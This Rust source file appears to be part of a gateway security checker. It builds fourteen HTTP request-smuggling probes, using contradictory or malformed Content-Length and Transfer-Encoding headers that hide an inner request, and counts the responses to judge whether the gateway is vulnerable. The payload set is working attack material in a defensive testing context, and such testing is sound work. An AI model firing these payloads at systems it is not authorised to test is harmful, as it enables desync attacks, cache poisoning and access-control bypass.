//! Requests that end in two places, so that a proxy and the gateway count them differently (RFC 9112 §11.2).

use std::time::Duration;

use anyhow::Result;
use futures_util::future::try_join_all;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::Instant;

use super::door::{Door, Seen};
use super::target::{LOOKUP, Target};
use super::{Attack, Outcome};
use crate::commands::check::Severity;

pub(super) static ATTACKS: [Attack; 1] = [Attack {
    id: "request-smuggling",
    severity: Severity::High,
    what: "one request that holds another, by contradictory or mangled lengths: `Content-Length` against chunks, twice, signed, spaced",
    expected: "one answer at most, or closed",
    play: |target| Box::pin(smuggle(target)),
}];

/// How long a second answer is waited for.
const SILENCE: Duration = Duration::from_secs(4);

/// How long all of it may take, where bytes keep coming.
const PATIENCE: Duration = Duration::from_secs(20);

async fn smuggle(target: &Target) -> Result<Outcome> {
    let gateway = target.gateway()?;
    let host = gateway.authority();
    let tried = AMBIGUOUS.iter().map(|ambiguous| {
        let request = ambiguous.request(&host);
        async move { anyhow::Ok((ambiguous.what, answers(gateway, request.as_bytes()).await?)) }
    });
    let mut seen = Seen::default();
    for (what, statuses) in try_join_all(tried).await? {
        if statuses.len() > 1 {
            let statuses = statuses.join(", ");
            return Ok(Outcome::GotThrough(format!(
                "{what}: two answers to one request, {statuses}"
            )));
        }
        seen.add(statuses.first().map_or("closed", String::as_str));
    }
    Ok(Outcome::Blocked(seen.to_string()))
}

/// A request of which a strict reader finds one, or none.
struct Ambiguous {
    what: &'static str,
    version: &'static str,
    /// `LENGTH` stands for that of the body.
    headers: &'static str,
    body: Body,
}

/// What holds the inner request.
#[derive(Clone, Copy)]
enum Body {
    /// The request as it is.
    Plain,
    /// Behind the last of its chunks.
    BehindChunks,
    /// Within a chunk.
    WithinAChunk,
    /// Behind a chunk whose length has more bits than any number.
    BehindAnOverflow,
}

const AMBIGUOUS: [Ambiguous; 14] = [
    one(
        "a length around chunks that end early",
        "Content-Length: LENGTH\r\nTransfer-Encoding: chunked",
        Body::BehindChunks,
    ),
    one(
        "chunks before a length around them",
        "Transfer-Encoding: chunked\r\nContent-Length: LENGTH",
        Body::BehindChunks,
    ),
    one(
        "a short length beside chunks",
        "Content-Length: 4\r\nTransfer-Encoding: chunked",
        Body::WithinAChunk,
    ),
    one(
        "two lengths",
        "Content-Length: 0\r\nContent-Length: LENGTH",
        Body::Plain,
    ),
    one(
        "two lengths in one field",
        "Content-Length: 0, LENGTH",
        Body::Plain,
    ),
    one("a length with a sign", "Content-Length: +0", Body::Plain),
    one(
        "a length in hexadecimal",
        "Content-Length: 0x0",
        Body::Plain,
    ),
    one(
        "a space before the colon",
        "Content-Length: LENGTH\r\nTransfer-Encoding : chunked",
        Body::BehindChunks,
    ),
    one(
        "an encoding that is not chunked",
        "Content-Length: LENGTH\r\nTransfer-Encoding: xchunked",
        Body::BehindChunks,
    ),
    one(
        "chunked, and then another encoding",
        "Content-Length: LENGTH\r\nTransfer-Encoding: chunked, identity",
        Body::BehindChunks,
    ),
    one(
        "a control character before the encoding",
        "Content-Length: LENGTH\r\nTransfer-Encoding: \u{b}chunked",
        Body::BehindChunks,
    ),
    one(
        "a folded field",
        "Content-Length: LENGTH\r\nTransfer-Encoding:\r\n chunked",
        Body::BehindChunks,
    ),
    one(
        "a chunk as long as no number",
        "Transfer-Encoding: chunked",
        Body::BehindAnOverflow,
    ),
    Ambiguous {
        version: "HTTP/1.0",
        ..one(
            "chunks in HTTP/1.0",
            "Content-Length: LENGTH\r\nTransfer-Encoding: chunked",
            Body::BehindChunks,
        )
    },
];

const fn one(what: &'static str, headers: &'static str, body: Body) -> Ambiguous {
    Ambiguous {
        what,
        version: "HTTP/1.1",
        headers,
        body,
    }
}

impl Ambiguous {
    fn request(&self, host: &str) -> String {
        let inner = format!("GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let body = match self.body {
            Body::Plain => inner,
            Body::BehindChunks => format!("0\r\n\r\n{inner}"),
            Body::WithinAChunk => format!("{:x}\r\n{inner}\r\n0\r\n\r\n", inner.len()),
            Body::BehindAnOverflow => format!("10000000000000000\r\n\r\n0\r\n\r\n{inner}"),
        };
        let headers = self.headers.replace("LENGTH", &body.len().to_string());
        let version = self.version;
        format!(
            "POST {LOOKUP} {version}\r\nHost: {host}\r\nContent-Type: application/json\r\n{headers}\r\n\r\n{body}"
        )
    }
}

/// The statuses of all that is answered on one connection.
async fn answers(gateway: &Door, request: &[u8]) -> Result<Vec<String>> {
    let mut socket = gateway.socket().await?;
    // Either may fail where the other side has had enough; what counts is what was answered.
    let _closed = socket.write_all(request).await;
    let _closed = socket.flush().await;
    let mut read = Vec::new();
    let until = Instant::now() + PATIENCE;
    let mut chunk = [0; 8192];
    while Instant::now() < until {
        match tokio::time::timeout(SILENCE, socket.read(&mut chunk)).await {
            Ok(Ok(count @ 1..)) => read.extend_from_slice(chunk.get(..count).unwrap_or_default()),
            Ok(Ok(_) | Err(_)) | Err(_) => break,
        }
    }
    Ok(statuses(&String::from_utf8_lossy(&read)))
}

/// No body of an answer to these requests holds a status line, so each one is an answer of its own.
fn statuses(text: &str) -> Vec<String> {
    let answers = text.split("HTTP/1.").skip(1);
    let status = answers.filter_map(|answer| answer.split(' ').nth(1));
    status
        .map(|status| status.chars().take(3).collect())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_answer_on_a_connection_is_counted() {
        let two = "HTTP/1.1 401 Unauthorized\r\ncontent-length: 2\r\n\r\n{}HTTP/1.1 400 Bad Request\r\n\r\n";
        assert_eq!(statuses(two), ["401", "400"]);
        assert!(statuses("").is_empty());
    }
}
